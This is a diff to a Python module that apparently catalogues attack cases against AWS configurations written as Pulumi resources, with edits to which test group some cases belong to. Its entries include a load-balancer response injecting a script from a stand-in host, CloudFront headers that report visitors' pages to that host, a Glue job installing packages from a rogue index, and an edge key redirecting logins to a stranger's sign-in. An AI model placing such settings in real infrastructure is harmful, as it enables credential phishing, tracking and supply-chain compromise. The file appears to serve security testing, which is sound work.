@@ -1,8 +1,8 @@
 """Attacks on AWS: names, pages, code and data (2026-11-30, sixteenth set, written blind).
 
 Properties by pulumi-aws 7.51.1. Read in excerpts on 2026-11-30: Amazon CloudFront, "Distribution tenant
-customizations" (parameters fill in the domain of an origin). Everything else as known; whether Amazon Bedrock offers
-crawlers of the web in me-central-1 was not found out.
+customizations" (parameters fill in the domain of an origin); types of records in botocore. Everything else as known;
+whether Amazon Bedrock offers crawlers of the web in me-central-1 was not found out.
 """
 
 import base64
@@ -16,6 +16,7 @@ from . import Attack
 from .tenth_aws import ESC, RES, R
 
 STRANGER = "collector.example"
+BY_HOST = ("FJ-RES-002", "FJ-RES-003", "FJ-RES-112")  # FJ-RES-102 refuses every resource of CloudFront
 ZONE = {"zoneId": "Z0123456789ABCDEFGHIJ", "ttl": 300}
 CHALLENGE = "Yb3mUq0c2vJ5oXf1sD8kLw7eRtN6aGhPz4iKxQyVbCM"
 AUTHORITY = """#cloud-config
@@ -81,7 +82,7 @@ ATTACKS = (
                 "contentType": "text/html", "statusCode": "200",
                 "messageBody": f"<script src='https://cdn.{STRANGER}/w.js'></script>"}}]}),),
         "critical", "it acts with the session of who is signed in (Elastic Load Balancing, 'Fixed-response actions')"),
-    Attack("browsers tell a stranger each address that they open", RES, (aws("cloudfront/ResponseHeadersPolicy", {
+    Attack("browsers tell a stranger each address that they open", BY_HOST, (aws("cloudfront/ResponseHeadersPolicy", {
         "name": "reports", "customHeadersConfig": {"items": [
             {"header": "Report-To", "override": True, "value": json.dumps({
                 "group": "all", "max_age": 31536000, "endpoints": [{"url": f"https://nel.{STRANGER}/r"}]})},
@@ -112,7 +113,7 @@ ATTACKS = (
         "name": "clean", "roleArn": f"arn:aws:iam::{ME}:role/glue", "glueVersion": "5.0", "workerType": "G.1X",
         "numberOfWorkers": 4, "timeout": 60, "maxRetries": 1, "securityConfiguration": "lake", "tags": TAGS,
         "executionProperty": {"maxConcurrentRuns": 1}, "command": {
-            "scriptLocation": "s3://finops-export-bucket/clean.py", "pythonVersion": "3"},
+            "scriptLocation": UNKNOWN, "pythonVersion": "3"},
         "defaultArguments": {
             "--job-bookmark-option": "job-bookmark-enable", "--additional-python-modules": "bank-rules==1.4.2",
             "--python-modules-installer-option": f"--index-url https://pypi.{STRANGER}/simple"}}),),
@@ -122,7 +123,7 @@ ATTACKS = (
         "memory": "2048", "executionRoleArn": f"arn:aws:iam::{ME}:role/app-start", "tags": TAGS,
         "taskRoleArn": f"arn:aws:iam::{ME}:role/app", "containerDefinitions": json.dumps([CONTAINER])}),),
         "critical", "every five minutes, and it is always well (Amazon ECS, HealthCheck, command)"),
-    Attack("a key of the edge leads customers to a stranger's sign-in", RES, (aws("cloudfront/KeyvaluestoreKey", {
+    Attack("a key of the edge leads customers to a stranger's sign-in", BY_HOST, (aws("cloudfront/KeyvaluestoreKey", {
         "keyValueStoreArn": f"arn:aws:cloudfront::{ME}:key-value-store/1a2b3c4d-1111-2222-3333-444455556666",
         "key": "login", "value": f"https://login.{STRANGER}/"}),),
         "critical", "the function at the edge redirects to what it reads (CloudFront, 'KeyValueStore')"),
